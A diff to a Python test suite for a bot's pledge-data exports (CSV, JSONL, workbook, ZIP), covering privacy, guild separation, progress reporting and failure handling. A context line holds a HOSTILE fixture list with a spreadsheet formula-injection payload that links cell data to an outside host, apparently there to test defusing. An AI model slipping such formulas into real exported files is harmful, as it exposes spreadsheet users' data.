@@ -2,9 +2,7 @@
 
 from __future__ import annotations
 
-import csv
 import errno
-import io
 import os
 import sqlite3
 import sys
@@ -13,23 +11,19 @@ from contextlib import closing
 from datetime import UTC, datetime
 from pathlib import Path
 
-import orjson
 import pytest
 
-from bot.export_files import ExportFailed, export_summit, zip_export
+from bot.export_files import ExportFailed, ExportResult, export_summit, zip_export
 from db.opening import connect_writer
-from exports.columns import PLEDGE_LOG, PLEDGES, Profile
+from exports.catalogue import TABLES
+from exports.columns import Profile, tables_of
 from exports.excel import inert
+from tests.exports.reading import everything_in, files_of, read_csv, read_json
 from tests.exports.summit_file import AT, GUILD, OTHER_GUILD, SummitFile, summit_file
 
 NOW = datetime(2021, 12, 10, 15, 0, 0, tzinfo=UTC)
-NAMES = [
-    "pledges.csv",
-    "pledges-excel.csv",
-    "pledges.jsonl",
-    "pledge-log.csv",
-    "pledge-log-excel.csv",
-]
+# The table of connections has its counts even where nothing happened.
+COUNTS = 4
 
 HOSTILE = [
     '=HYPERLINK("http://example.org?"&A1,"Click")',
@@ -62,13 +56,12 @@ def out(tmp_path: Path) -> Path:
     return tmp_path / "exports"
 
 
-def read_csv(path: Path) -> list[dict[str, str]]:
-    data = path.read_bytes().removeprefix(b"\xef\xbb\xbf")
-    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""), strict=True))
-
-
-def read_json(path: Path) -> list[dict[str, object]]:
-    return [orjson.loads(line) for line in path.read_bytes().split(b"\n")[:-1]]
+def everything_of(result: ExportResult) -> dict[str, str]:
+    """All that the files of an export say, and those of its ZIP."""
+    found = everything_in(zip_export(result))
+    for path in result.paths:
+        found |= everything_in(path)
+    return found
 
 
 def test_an_internal_export_holds_everything(database, out):
@@ -104,8 +97,8 @@ def test_an_internal_export_holds_everything(database, out):
     result = export_summit(database, GUILD, Profile.INTERNAL, out, NOW)
 
     assert result.folder == out / f"summit-{GUILD}-internal-20211210T150000Z"
-    assert [file.name for file in result.files] == NAMES
-    assert sorted(path.name for path in result.folder.iterdir()) == sorted(NAMES)
+    assert {file.name for file in result.files} == files_of(Profile.INTERNAL)
+    assert {path.name for path in result.folder.iterdir()} == files_of(Profile.INTERNAL)
     assert [path.name for path in out.iterdir()] == [result.folder.name]
     pledge = {
         "reference": "P-0001",
@@ -236,11 +229,10 @@ def test_nothing_private_is_in_any_byte_of_a_public_export(database, out):
         private.append("811111111111111111")
     result = export_summit(database, GUILD, Profile.PUBLIC, out, NOW)
 
-    everything = {path.name: path.read_bytes() for path in result.folder.iterdir()}
-    assert sorted(everything) == sorted(NAMES)
-    for name, data in everything.items():
+    assert {path.name for path in result.folder.iterdir()} == files_of(Profile.PUBLIC)
+    for name, said in everything_of(result).items():
         for text in private:
-            assert text.encode() not in data, (name, text)
+            assert text not in said, (name, text)
     made_by = [row["made_by"] for row in read_json(result.folder / "pledges.jsonl")]
     assert made_by == ["Open Amina", "A business", "Open Bakery", "Open Amina"]
     log = [(row["reference"], row["event"]) for row in read_csv(result.folder / "pledge-log.csv")]
@@ -252,8 +244,8 @@ def test_nothing_private_is_in_any_byte_of_a_public_export(database, out):
 
     # The same search finds every one of them in the internal files, so it can find something.
     inside = export_summit(database, GUILD, Profile.INTERNAL, out, NOW)
-    held = b"".join(path.read_bytes() for path in inside.folder.iterdir())
-    assert [text for text in private if text.encode() not in held] == in_no_export
+    held = "\n".join(everything_of(inside).values())
+    assert [text for text in private if text not in held] == in_no_export
 
 
 def test_taking_consent_back_counts_at_the_next_export(database, out):
@@ -279,9 +271,10 @@ def test_another_guilds_rows_never_appear(database, out, profile):
         theirs.pledge(7, action="Theirs again, every week")
     result = export_summit(database, GUILD, profile, out, NOW)
 
-    assert {file.rows for file in result.files} == {1}
-    for path in result.paths:
-        assert b"Theirs" not in path.read_bytes(), path.name
+    rows = {file.name: file.rows for file in result.files}
+    assert rows["pledges.csv"] == rows["pledge-log.csv"] == 1
+    for name, said in everything_of(result).items():
+        assert "Theirs" not in said, name
 
 
 @pytest.mark.parametrize("profile", Profile)
@@ -324,18 +317,20 @@ def test_an_empty_summit_has_files_with_their_headers(database, out, profile):
         database, GUILD, profile, out, NOW, lambda done, total: told.append((done, total))
     )
 
-    assert [file.rows for file in result.files] == [0] * 5
-    for table in (PLEDGES, PLEDGE_LOG):
+    tables = [one for one in tables_of(TABLES, profile) if one.stem != "connections"]
+    assert {file.name for file in result.files} == files_of(profile)
+    assert all(file.rows in (0, None) for file in result.files if file.name[:2] in ("pl", "pr"))
+    for table in tables:
         header = ",".join(column.name for column in table.columns_of(profile)) + "\r\n"
         assert (result.folder / f"{table.stem}.csv").read_bytes() == header.encode()
         excel = (result.folder / f"{table.stem}-excel.csv").read_bytes()
         assert excel == b"\xef\xbb\xbf" + header.encode()
-    assert (result.folder / "pledges.jsonl").read_bytes() == b""
-    assert told == [(0, 0)]
+        assert (result.folder / f"{table.stem}.jsonl").read_bytes() == b""
+    assert told == [(0, COUNTS), (COUNTS, COUNTS)]
 
 
 @pytest.mark.parametrize("profile", Profile)
-def test_progress_ends_with_all_rows_of_both_tables(database, out, profile):
+def test_progress_ends_with_all_rows_of_all_tables(database, out, profile):
     with summit_file(database) as file:
         maker = file.attendee(7)
         for at in range(250):
@@ -346,7 +341,7 @@ def test_progress_ends_with_all_rows_of_both_tables(database, out, profile):
         database, GUILD, profile, out, NOW, lambda done, total: told.append((done, total))
     )
 
-    total = 400 if profile is Profile.PUBLIC else 750
+    total = (400 if profile is Profile.PUBLIC else 750) + COUNTS
     assert told[0] == (0, total)
     assert told[-1] == (total, total)
     assert [done for done, _ in told] == sorted({done for done, _ in told})
@@ -366,9 +361,12 @@ def test_all_files_show_the_moment_at_which_the_export_began(database, out):
         result = export_summit(database, GUILD, Profile.INTERNAL, out, NOW, write_meanwhile)
 
     assert len(written) > 2
-    assert {exported.rows for exported in result.files} == {300}
-    for path in result.paths:
-        assert b"while" not in path.read_bytes(), path.name
+    rows = {exported.name: exported.rows for exported in result.files}
+    assert rows["pledges.csv"] == rows["pledge-log.csv"] == 300
+    assert rows["record-internal.xlsx"] == 600 + COUNTS
+    for name, said in everything_of(result).items():
+        assert "it ran" not in said, name
+        assert "the export ran" not in said, name
     with closing(sqlite3.connect(database)) as there:
         assert there.execute("SELECT count(*) FROM pledge").fetchone()[0] == 300 + len(written)
 
@@ -397,8 +395,8 @@ def test_a_damaged_database_is_said_plainly_and_leaves_nothing(database, out):
         file.connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")
         pages = file.connection.execute("PRAGMA page_count").fetchone()[0]
     with database.open("r+b") as raw:
-        raw.seek(4096 * (pages // 2))
-        raw.write(b"\xff" * 4096 * (pages // 2))
+        raw.seek(4096 * (pages - pages // 4))  # past the tables' own descriptions
+        raw.write(b"\xff" * 4096 * (pages // 4))
     with pytest.raises(ExportFailed, match=r"could not be read: .*\. Nothing was exported\.$"):
         export_summit(database, GUILD, Profile.INTERNAL, out, NOW)
     assert not out.exists() or list(out.iterdir()) == []
@@ -430,16 +428,20 @@ def test_a_folder_that_may_not_be_written_is_said_plainly(database, out):
     assert list(out.iterdir()) == []
 
 
+# The first limit is met by the workbook, the second by the pledges.
+@pytest.mark.parametrize("most", [40_000, 700_000])
 @pytest.mark.skipif(sys.platform == "win32", reason="no limit on a file's size there")
-def test_a_disk_that_takes_no_more_leaves_nothing(database, out):
+def test_a_disk_that_takes_no_more_leaves_nothing(database, out, most):
     import resource
 
     with summit_file(database) as file:
         maker = file.attendee(7)
+        file.connection.execute("BEGIN")
         for _ in range(2000):
             file.pledge(maker, action="x" * 500)
+        file.connection.execute("COMMIT")
     soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
-    resource.setrlimit(resource.RLIMIT_FSIZE, (700_000, hard))
+    resource.setrlimit(resource.RLIMIT_FSIZE, (most, hard))
     try:
         with pytest.raises(ExportFailed) as refusal:
             export_summit(database, GUILD, Profile.INTERNAL, out, NOW)
@@ -488,7 +490,6 @@ def test_the_zip_holds_the_same_files(database, out):
         assert {entry.filename: held.read(entry) for entry in held.infolist()} == {
             f"{result.folder.name}/{path.name}": path.read_bytes() for path in result.paths
         }
-    assert archive.stat().st_size < result.size / 5
     assert sorted(out.iterdir()) == sorted([result.folder, archive])
 
 
